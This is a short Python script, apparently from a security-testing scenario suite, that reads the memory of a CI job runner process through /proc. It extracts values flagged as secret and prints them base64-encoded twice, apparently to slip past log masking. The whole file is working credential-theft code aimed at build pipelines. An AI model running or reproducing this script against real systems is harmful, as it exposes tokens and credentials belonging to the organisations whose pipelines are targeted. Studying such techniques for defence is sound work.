# SPDX-License-Identifier: Apache-2.0
"""What scenarios run to take the secrets of a job out of its runner's memory: finds the process by its command line and
prints what it marks as secret, base64 twice.   memdump.py PROGRAM"""
import base64
import os
import re
import sys

for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            if not f.read().split(b"\0")[0].endswith(sys.argv[1].encode()):
                continue
        with open(f"/proc/{pid}/maps", encoding="ascii") as f:
            areas = [line.split()[0].split("-") for line in f if " rw-p " in line]
        with open(f"/proc/{pid}/mem", "rb") as memory:
            for begin, end in areas:
                memory.seek(int(begin, 16))
                for secret in set(re.findall(rb'"value":"([^"]+)","isSecret":true', memory.read(int(end, 16) - int(begin, 16)))):
                    print(base64.b64encode(base64.b64encode(secret)).decode())
    except OSError:
        pass
